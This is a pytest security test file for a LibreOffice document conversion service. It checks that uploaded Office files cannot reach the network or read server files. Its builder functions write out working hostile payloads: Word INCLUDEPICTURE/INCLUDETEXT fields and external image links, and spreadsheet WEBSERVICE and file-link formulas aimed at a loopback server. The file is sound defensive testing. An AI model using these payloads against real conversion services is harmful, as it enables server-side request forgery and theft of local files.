"""Attacks on the LibreOffice conversion (issue #15): hostile uploads that try to reach out.

Each file is a real Office document an attacker could upload, converted by the real
`soffice` under documents.office's containment. The attacks: a Word file whose picture is
an external link to a web server, a Word file whose fields fetch a URL and include a local
file, a workbook whose formulas call a web service and read another file on the server.
A web server on the test machine's loopback counts every request: none may arrive, and
no local file's content may appear in the PDF.
"""

import http.server
import io
import os
import shutil
import tempfile
import threading
import zipfile
from pathlib import Path

import pypdfium2 as pdfium
import pytest

from documents import office
from tests.conftest import require
from tests.documents import office_files

pytestmark = pytest.mark.timeout(180)

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


@pytest.fixture(params=["contained", "network-open"])
def soffice(request, monkeypatch):
    """Each attack runs twice: as deployed, and as on a host that allows no network namespace
    (documents.office.isolation's "none" mode, still as nobody when root): the profile alone
    (links never updated, no macros) must then keep the document from reaching out."""
    require("LibreOffice (soffice)", office.available(), "deploy/install-ci-tools.sh installs it")
    if request.param == "network-open":
        setpriv = shutil.which("setpriv")
        prefix = ()
        if os.geteuid() == 0 and setpriv:
            prefix = (
                setpriv,
                f"--reuid={office.NOBODY}",
                f"--regid={office.NOBODY}",
                "--clear-groups",
                "--no-new-privs",
            )
        mode = "netns+nobody" if prefix else "none"  # as nobody: its folders are handed over the same way
        monkeypatch.setattr(office, "isolation", lambda: (mode, prefix))
    return request.param


class _Counting(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        type(self).hits.append(self.path)
        body = b"PWNED-FROM-NETWORK"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_HEAD = do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A web server on 127.0.0.1: (base URL, list of paths requested)."""
    handler = type("Handler", (_Counting,), {"hits": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler.hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def secret_file():
    """A file any user (LibreOffice runs as nobody) could read, holding a marker."""
    folder = Path(tempfile.mkdtemp(prefix="docuid-attack-"))
    os.chmod(folder, 0o755)
    secret = folder / "secret.txt"
    secret.write_text("TOPSECRET-7319\n")
    os.chmod(secret, 0o644)
    try:
        yield secret
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def convert_text(tmp_path, name: str, data: bytes) -> str:
    source = tmp_path / name
    source.write_bytes(data)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    pdf = office.convert(source, "pdf", out, timeout_seconds=90, memory_mb=1024, reuse_profile=True)
    document = pdfium.PdfDocument(str(pdf))
    try:
        return " ".join(" ".join(document[i].get_textpage().get_text_range().split()) for i in range(len(document)))
    finally:
        document.close()


def _rewrite(base: bytes, parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = set()
        for info in source.infolist():
            names.add(info.filename)
            target.writestr(info, parts.get(info.filename, source.read(info.filename)))
        for name, data in parts.items():
            if name not in names:
                target.writestr(name, data)
    return out.getvalue()


def hostile_docx(url: str, local_file: Path) -> bytes:
    """A Word file with an externally linked picture, INCLUDEPICTURE/INCLUDETEXT fields (URL and
    local file) and a HYPERLINK-free field that would fetch `url` when fields are updated."""
    base = office_files.docx_bytes(["Cover page"])
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        document = source.read("word/document.xml").decode()
        rels = source.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdEvil1" Type="{IMAGE_REL}" Target="{url}/linked.png" TargetMode="External"/>'
        "</Relationships>",
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="77" name="Linked"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="77" name="Linked"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{R_NS}" r:link="rIdEvil1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )

    def field(instr: str, shown: str) -> str:
        return (
            f'<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )

    fields = (
        field(f'INCLUDEPICTURE "{url}/field.png" \\d', "Stored picture")
        + field(f'INCLUDETEXT "{local_file}"', "Stored text")
        + field(f'INCLUDETEXT "{url}/field.txt"', "Stored remote")
        + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{local_file}&quot; "><w:r><w:t>Simple stored</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )
    document = document.replace("<w:sectPr", picture + fields + "<w:sectPr", 1)
    return _rewrite(base, {"word/document.xml": document.encode(), "word/_rels/document.xml.rels": rels.encode()})


def hostile_xlsx(url: str, local_file: Path) -> bytes:
    """A workbook whose cells call WEBSERVICE on `url`, link another file on the server and use
    a DDE-style link, each with a harmless cached value ("cached")."""
    base = office_files.xlsx_bytes({"Sheet1": [["Cover"]]})
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml").decode()
    cells = (
        f'<c r="A2" t="str"><f>WEBSERVICE("{url}/ws")</f><v>cached-ws</v></c>'
        f'<c r="A3" t="str"><f>FILTERXML(WEBSERVICE("{url}/xml"),"//a")</f><v>cached-xml</v></c>'
        f'<c r="A4" t="str"><f>\'file://{local_file}\'#$Sheet1.A1</f><v>cached-file</v></c>'
        f'<c r="A5" t="str"><f>HYPERLINK("{url}/click","cached-link")</f><v>cached-link</v></c>'
    )
    sheet = sheet.replace("</sheetData>", f'<row r="2">{cells}</row></sheetData>', 1)
    # Ask for a full recalculation on load, as a hostile file would.
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        workbook = source.read("xl/workbook.xml").decode()
    if "fullCalcOnLoad" in workbook:
        pass  # openpyxl already asks for it
    elif "<calcPr" in workbook:
        workbook = workbook.replace("<calcPr", '<calcPr fullCalcOnLoad="1"', 1)
    else:
        workbook = workbook.replace("</workbook>", '<calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>', 1)
    return _rewrite(base, {"xl/worksheets/sheet1.xml": sheet.encode(), "xl/workbook.xml": workbook.encode()})


def test_a_word_file_with_external_pictures_and_include_fields_reaches_nothing(
    soffice, tmp_path, listener, secret_file
):
    url, hits = listener
    text = convert_text(tmp_path, "hostile.docx", hostile_docx(url, secret_file))
    assert "Cover page" in text  # it was converted, not refused
    assert hits == [], f"LibreOffice fetched {hits}"
    assert "TOPSECRET" not in text and "PWNED" not in text


def test_a_workbook_with_web_service_and_file_links_reaches_nothing(soffice, tmp_path, listener, secret_file):
    url, hits = listener
    text = convert_text(tmp_path, "hostile.xlsx", hostile_xlsx(url, secret_file))
    assert "Cover" in text
    assert hits == [], f"LibreOffice fetched {hits}"
    assert "TOPSECRET" not in text and "PWNED" not in text
